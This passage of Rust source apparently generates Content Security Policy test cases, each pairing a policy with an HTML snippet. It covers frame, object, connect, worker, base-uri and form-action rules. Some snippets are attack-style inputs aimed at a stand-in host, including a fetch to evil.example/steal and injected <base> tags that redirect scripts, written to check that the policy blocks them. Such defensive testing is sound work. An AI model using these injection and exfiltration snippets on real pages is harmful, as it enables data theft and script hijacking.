                "a plugin <object> is not framed",
                &["frame-src 'none'"],
                "<object data=https://plugins.example/p.swf></object>",
            ),
            case(
                "a srcdoc frame reports in its own document",
                &["img-src 'none'"],
                "<iframe srcdoc=\"<img src=https://img.example/x.png>\"></iframe>",
            ),
            case(
                "default-src covers frames",
                &["default-src 'none'"],
                "<iframe src=https://frames.example/f.html></iframe>",
            ),
            case(
                "frame-src overrides child-src",
                &["child-src 'none'; frame-src https://frames.example"],
                "<iframe src=https://frames.example/f.html></iframe><iframe src=https://evil.example/f.html></iframe>",
            ),
        ],
    );
    group(
        &mut cases,
        "object-src",
        vec![
            case(
                "object-src 'none' blocks an object",
                &["object-src 'none'"],
                "<object data=https://plugins.example/p.swf></object>",
            ),
            case("object-src blocks an <embed>", &["object-src 'none'"], "<embed src=https://plugins.example/e.swf>"),
            case(
                "object-src is checked before the frame",
                &["object-src 'none'; frame-src 'none'"],
                "<object data=https://frames.example/o.html type=text/html></object>",
            ),
            case(
                "default-src covers objects",
                &["default-src 'none'"],
                "<object data=https://plugins.example/p.swf></object>",
            ),
            case(
                "object-src allows its host, frame-src decides the document",
                &["object-src https://frames.example; frame-src 'self'"],
                "<object data=https://frames.example/o.html></object>",
            ),
            case(
                "object-src allows its host only",
                &["object-src https://plugins.example"],
                "<embed src=https://plugins.example/a.swf><embed src=https://evil.example/b.swf>",
            ),
        ],
    );
    group(
        &mut cases,
        "connect-src",
        vec![
            case("connect-src blocks fetch to another host", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); fetch('https://evil.example/steal').catch(() => {});</script>"),
            case("connect-src 'self' allows fetch to the page's origin", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); fetch('/agreement/api').catch(() => {});</script>"),
            case("connect-src governs WebSockets", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); try { new WebSocket('wss://evil.example/live') } catch (e) {}</script>"),
            case("XMLHttpRequest", &["script-src 'unsafe-inline'; connect-src 'none'"], &run("const x = new XMLHttpRequest(); x.open('GET', 'https://api.example/x'); try { x.send() } catch (e) {}")),
            case("EventSource", &["script-src 'unsafe-inline'; connect-src 'none'"], &run("try { new EventSource('https://api.example/es') } catch (e) {}")),
            case("sendBeacon", &["script-src 'unsafe-inline'; connect-src 'none'"], &run("try { navigator.sendBeacon('https://api.example/b', 'x') } catch (e) {}")),
            case("a WebSocket to another host", &["script-src 'unsafe-inline'; connect-src 'self'"], &run("try { new WebSocket('ws://evil.example/live') } catch (e) {}")),
            case("'self' matches ws: on the page's host", &["script-src 'unsafe-inline'; connect-src 'self'"], &run(&format!("try {{ new WebSocket('{ws_self}') }} catch (e) {{}}"))),
            case("fetch of a data: URL needs data:", &["script-src 'unsafe-inline'; connect-src 'self'"], &run("fetch('data:text/plain,x').catch(() => {});")),
            case("a relative fetch is resolved before the check", &["script-src 'unsafe-inline'; connect-src 'none'"], &run("fetch('/agreement/api').catch(() => {});")),
            case("preload as=fetch is checked against connect-src", &["connect-src 'none'"], "<link rel=preload as=fetch crossorigin href=https://api.example/a.json>"),
            case("default-src covers fetch", &["default-src 'none'; script-src 'unsafe-inline'"], &run("fetch('https://api.example/x').catch(() => {});")),
            case("connect-src allows its host only", &["script-src 'unsafe-inline'; connect-src https://api.example"], &run("fetch('https://api.example/ok').catch(() => {}); fetch('https://evil.example/no').catch(() => {});")),
            case("connect-src does not govern prefetch", &["connect-src 'none'"], "<link rel=prefetch href=https://p.example/p.txt>"),
        ],
    );
    group(
        &mut cases,
        "worker-src",
        vec![
            case(
                "a data: worker is checked against worker-src",
                &["script-src 'unsafe-inline'; worker-src 'none'"],
                &worker("'data:text/javascript,1'"),
            ),
            case(
                "a blob: worker is checked against worker-src",
                &["script-src 'unsafe-inline'; worker-src 'none'"],
                &worker("URL.createObjectURL(new Blob(['1']))"),
            ),
            case(
                "worker-src data: allows a data: worker",
                &["script-src 'unsafe-inline'; worker-src data:"],
                &worker("'data:text/javascript,1'"),
            ),
            case(
                "'self' does not match a blob: worker",
                &["script-src 'unsafe-inline'; worker-src 'self'"],
                &worker("URL.createObjectURL(new Blob(['1']))"),
            ),
            case(
                "worker-src blob: allows it",
                &["script-src 'unsafe-inline'; worker-src blob:"],
                &worker("URL.createObjectURL(new Blob(['1']))"),
            ),
            case(
                "without worker-src, script-src governs workers",
                &["script-src 'unsafe-inline'"],
                &worker("'data:text/javascript,1'"),
            ),
            case(
                "child-src comes before script-src",
                &["script-src 'unsafe-inline' data:; child-src 'none'"],
                &worker("'data:text/javascript,1'"),
            ),
            case(
                "a module worker is checked the same",
                &["script-src 'unsafe-inline'; worker-src 'none'"],
                &worker("'data:text/javascript,1', { type: 'module' }"),
            ),
            case(
                "preview: a worker from a URL fails before CSP in an opaque origin",
                &["script-src 'unsafe-inline'; worker-src 'none'"],
                &worker("'https://w.example/w.js'"),
            ),
            case(
                "preview: a shared worker fails before CSP in an opaque origin",
                &["script-src 'unsafe-inline'; worker-src 'none'"],
                &run("try { new SharedWorker('data:text/javascript,1') } catch (e) {}"),
            ),
            case(
                "preview: a service worker fails before CSP in an opaque origin",
                &["script-src 'unsafe-inline'; worker-src 'none'"],
                &run("try { navigator.serviceWorker.register('/agreement/sw.js').catch(() => {}) } catch (e) {}"),
            ),
        ],
    );
    group(
        &mut cases,
        "manifest-src",
        vec![
            case(
                "preview: Chromium does not fetch a frame's manifest",
                &["manifest-src 'none'"],
                "<link rel=manifest href=https://m.example/m.json>",
            ),
            case(
                "preview: nor under default-src",
                &["default-src 'none'"],
                "<link rel=manifest href=/agreement/m.json>",
            ),
        ],
    );
    group(
        &mut cases,
        "default-src",
        vec![
            case(
                "a prefetch is checked against default-src",
                &["default-src 'none'"],
                "<link rel=prefetch href=https://p.example/p.txt>",
            ),
            case(
                "a prefetch allowed by default-src",
                &["default-src https://p.example"],
                "<link rel=prefetch href=https://p.example/p.txt><link rel=prefetch href=https://evil.example/q.txt>",
            ),
            case(
                "preconnect makes no CSP check",
                &["default-src 'none'"],
                "<link rel=preconnect href=https://x.example/>",
            ),
            case(
                "a preload without as is not fetched",
                &["default-src 'none'"],
                "<link rel=preload href=https://x.example/x>",
            ),
            case(
                "a meta refresh is a navigation, not governed",
                &["default-src 'none'"],
                "<meta http-equiv=refresh content=\"100; url=https://evil.example/\">",
            ),
        ],
    );
    group(
        &mut cases,
        "base-uri",
        vec![
            case(
                "without base-uri an injected <base> moves relative scripts",
                &["script-src 'self'"],
                "<base href=https://evil.example/><script src=castle.js></script>",
            ),
            case(
                "base-uri 'none' stops an injected <base>",
                &["script-src 'self'; base-uri 'none'"],
                "<base href=https://evil.example/><script src=/agreement/castle.js></script>",
            ),
            case(
                "base-uri 'self' blocks a <base> on another host",
                &["script-src 'self'; base-uri 'self'"],
                "<base href=https://evil.example/><script src=/agreement/castle.js></script>",
            ),
            case(
                "an allowed <base> moves relative images",
                &["img-src 'none'; base-uri https://img.example"],
                "<base href=https://img.example/><img src=a.png>",
            ),
            case(
                "only the first <base> counts",
                &["img-src 'none'"],
                "<base href=https://one.example/><base href=https://two.example/><img src=a.png>",
            ),
        ],
    );
    group(
        &mut cases,
        "form-action",
        vec![
            case("preview: form-action is checked on submission, which the sandbox forbids", &["form-action 'none'; script-src 'unsafe-inline'"], "<form action=https://evil.example/f id=f></form><script>alert('s'); document.getElementById('f').submit()</script>"),
        ],
    );
    group(
        &mut cases,
        "policy",
        vec![
            case(
                "a duplicate directive: the first wins",
                &["script-src 'none'; script-src 'unsafe-inline'"],
                &script("s"),
            ),
            case(
                "frame-ancestors is ignored in a meta policy",
                &["frame-ancestors 'none'; script-src 'unsafe-inline'"],
                &script("s"),
            ),
            case("directive names are case-insensitive", &["SCRIPT-SRC 'none'"], &script("s")),
            case("keywords are case-insensitive", &["script-src 'UNSAFE-INLINE'"], &script("s")),
            case("'report-sample' allows nothing by itself", &["script-src 'self' 'report-sample'"], &script("s")),
            case(
                "every policy must allow",
                &["script-src 'unsafe-inline' https://cdn.example", "script-src 'unsafe-inline'"],
                "<script>alert('s')</script><script src=https://cdn.example/lib.js></script>",
            ),
            case("each blocking policy reports", &["script-src 'self'", "default-src 'none'"], &script("s")),
        ],
    );
    println!("{}", serde_json::to_string_pretty(&cases).unwrap_or_else(|_| "[]".into()));
}
